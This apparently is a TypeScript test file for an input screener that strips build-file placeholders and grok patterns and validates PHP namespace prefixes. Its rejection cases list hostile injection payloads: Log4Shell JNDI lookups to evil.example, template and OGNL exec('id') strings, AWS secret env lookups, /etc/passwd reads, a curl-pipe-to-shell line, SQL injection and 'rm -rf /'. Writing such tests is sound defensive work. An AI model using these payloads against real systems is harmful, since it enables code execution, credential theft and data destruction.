/**
 * The value shapes of blind benign set 21 (session 38, bb38, read): a build file's or an upload policy's property
 * references and a log pipeline's grok patterns, screened as the text around them (property-placeholders.ts), and a PHP
 * namespace prefix as a PSR-4 autoload key (namespace-prefix.ts).
 */
import { describe, expect, it } from 'vitest';
import { isNamespacePrefix } from '../../src/model/namespace-prefix.js';
import { textAroundPlaceholders } from '../../src/model/property-placeholders.js';
import { mayCarryAttack } from '../../src/model/screen.js';

describe('textAroundPlaceholders', () => {
  it('leaves property references blank and returns the text around them', () => {
    expect(textAroundPlaceholders('${jackson.version}')).toBe(' ');
    expect(textAroundPlaceholders('user/4471/${filename}')).toBe('user/4471/ ');
    expect(textAroundPlaceholders('-Xmx1g -Dfile.encoding=UTF-8 ${argLine}')).toBe('-Xmx1g -Dfile.encoding=UTF-8  ');
    expect(textAroundPlaceholders('${project.basedir}/src/main/${module-name}')).toBe(' /src/main/ ');
  });
  it('reads a matcher call as its field name, so a parsing rule reads as the log line it matches', () => {
    expect(textAroundPlaceholders('_ts %{date("yyyy-MM-dd HH:mm:ss,SSS"):timestamp}')).toBe('_ts timestamp');
    expect(textAroundPlaceholders('%{regex("[\\w.-]+"):user} %{keyvalue("=", "/:"):kv}')).toBe('user kv');
    expect(textAroundPlaceholders('%{date("HH:mm:ss"):ts} %{word:level} \\[%{notSpace:thread}\\]')).toBe('ts %{word:level} \\[%{notSpace:thread}\\]');
  });
  it('takes nothing without a call: plain grok patterns and mod_rewrite variables stay as written', () => {
    expect(textAroundPlaceholders('%{IPORHOST:client} \\[%{HTTPDATE:ts}\\]')).toBeNull();
    expect(textAroundPlaceholders('RewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]')).toBeNull();
  });
  for (const t of [
    'no placeholder at all',
    '${7*7}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example/a}',
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${env.AWS_SECRET_ACCESS_KEY}',
    '${pageContext.request.serverName}',
    '${applicationScope}',
    '${sessionScope.user}',
    '${spring.datasource.password}',
    '${class.classLoader.resources}',
    '${self.module.cache}',
    'cat${IFS}/etc/passwd',
    '${#context}',
    '${"freemarker.template.utility.Execute"?new()("id")}',
    '${__import__}',
    '%{#a=@java.lang.Runtime@getRuntime().exec("id")}',
    "%{(#_='multipart/form-data')}",
    '%{7*7}',
    '%{exec("id"):x}',
    '%{date("x")}',
    '%{constructor:x}',
    '${a} ${b',
  ]) it(`refuses ${t}`, () => expect(textAroundPlaceholders(t)).toBeNull());
  it('leaves what surrounds the references to the screen', () => {
    expect(mayCarryAttack(textAroundPlaceholders('${jackson.version}; curl http://evil.example/x.sh | sh') ?? '')).toBe(true);
    expect(mayCarryAttack(textAroundPlaceholders("user/${filename}' OR '1'='1") ?? '')).toBe(true);
    expect(mayCarryAttack(textAroundPlaceholders('%{date("x"):ts}<script>alert(1)</script>') ?? '')).toBe(true);
    expect(mayCarryAttack(textAroundPlaceholders('%{date("x"):ts}; rm -rf /') ?? '')).toBe(true);
  });
});

describe('isNamespacePrefix', () => {
  for (const t of ['App\\', 'App\\Models\\', 'Database\\Factories\\', 'Acme\\Shop\\', '\\Vendor\\Package\\']) {
    it(`takes ${t}`, () => { expect(isNamespacePrefix(t)).toBe(true); expect(mayCarryAttack(t)).toBe(false); });
  }
  for (const t of ['admin\\', 'App\\Models\\User', "App\\' OR 1=1-- \\", 'App\\x41\\', 'App\\n\\', 'App', 'App\\\\', 'App\\;id\\', 'Monolog\\Handler\\SyslogUdpHandler']) {
    it(`refuses ${t}`, () => expect(isNamespacePrefix(t)).toBe(false));
  }
});
